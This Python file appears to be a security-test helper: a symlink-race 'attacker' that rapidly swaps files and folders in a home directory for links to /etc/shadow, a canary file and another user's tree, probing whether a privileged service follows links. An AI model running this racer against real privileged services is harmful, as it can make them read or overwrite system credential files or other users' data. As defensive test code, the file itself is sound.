"""The attacker's racing process (SECURITY row 2): runs as the user, never as root.

Usage: python3 racer.py HOME BOB_HOME ETC_CANARY FLIP...
Flips files and folders of HOME between the real thing and a symbolic link,
in a tight loop, until SIGTERM; then prints how many flips it made.  Every
flip works through a descriptor of the real parent folder, so the racer
itself never writes through its own links into bob's tree.
"""

from __future__ import annotations

import itertools
import os
import signal
import sys
import time

flips = 0
running = True


def stop(_signum: int, _frame: object) -> None:
    global running
    running = False


def swap_file(parent: int, name: str, targets: list[str]) -> None:
    """Replace *name* atomically by a fresh empty file, then by a link."""
    global flips
    for target in targets:
        try:
            os.close(os.open(".f", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=parent))
            os.rename(".f", name, src_dir_fd=parent, dst_dir_fd=parent)
            os.symlink(target, ".l", dir_fd=parent)
            os.rename(".l", name, src_dir_fd=parent, dst_dir_fd=parent)
            flips += 2
        except OSError:
            for junk in (".f", ".l"):
                try:
                    os.unlink(junk, dir_fd=parent)
                except OSError:
                    pass


def swap_dir(parent: int, name: str, target: str) -> None:
    """Move folder *name* aside, put a link in its place, then put it back."""
    global flips
    try:
        os.rename(name, f".{name}-real", src_dir_fd=parent, dst_dir_fd=parent)
        os.symlink(target, name, dir_fd=parent)
        os.unlink(name, dir_fd=parent)
        os.rename(f".{name}-real", name, src_dir_fd=parent, dst_dir_fd=parent)
        flips += 2
    except OSError:
        try:  # the pass may have made a fresh folder meanwhile: keep the real one
            os.unlink(name, dir_fd=parent)
        except OSError:
            pass
        try:
            os.rename(f".{name}-real", name, src_dir_fd=parent, dst_dir_fd=parent)
        except OSError:
            pass


def main() -> None:
    home, bob, canary, *wanted = sys.argv[1:]
    signal.signal(signal.SIGTERM, stop)

    def fd(path: str) -> int:
        # another racer may have this folder moved aside for a moment: try again
        for _ in range(10_000):
            try:
                return os.open(os.path.join(home, path), os.O_RDONLY | os.O_DIRECTORY)
            except (FileNotFoundError, NotADirectoryError):
                time.sleep(0.001)
        raise SystemExit(f"racer: {path} never came back")

    targets = ["/etc/shadow", canary, os.path.join(home, "private/precious")]
    steps = {
        "command": lambda: swap_file(web, "autostart",
                                     [*targets, f"{bob}/wirt/service/vm/web/autostart"]),
        "vmdir": lambda: swap_dir(vm, "web", f"{bob}/wirt/service/vm/web"),
        "logdir": lambda: swap_dir(logs, "vm", f"{bob}/wirt/logs/vm"),
        "history": lambda: swap_dir(logs, "history", f"{bob}/wirt/logs/history"),
        "logfile": lambda: swap_file(logvm, "web.log", [*targets, f"{bob}/wirt/logs/vm/web.log"]),
        "status": lambda: swap_file(infoweb, "status.xml",
                                    [*targets, f"{bob}/wirt/info/vm/web/status.xml"]),
        "infodir": lambda: swap_dir(infovm, "web", f"{bob}/wirt/info/vm/web"),
    }
    web, vm = fd("wirt/service/vm/web"), fd("wirt/service/vm")
    logs, logvm = fd("wirt/logs"), fd("wirt/logs/vm")
    infovm, infoweb = fd("wirt/info/vm"), fd("wirt/info/vm/web")
    print("ready", flush=True)
    for name in itertools.cycle(wanted):
        if not running:
            break
        steps[name]()
    print(flips, flush=True)


if __name__ == "__main__":
    main()
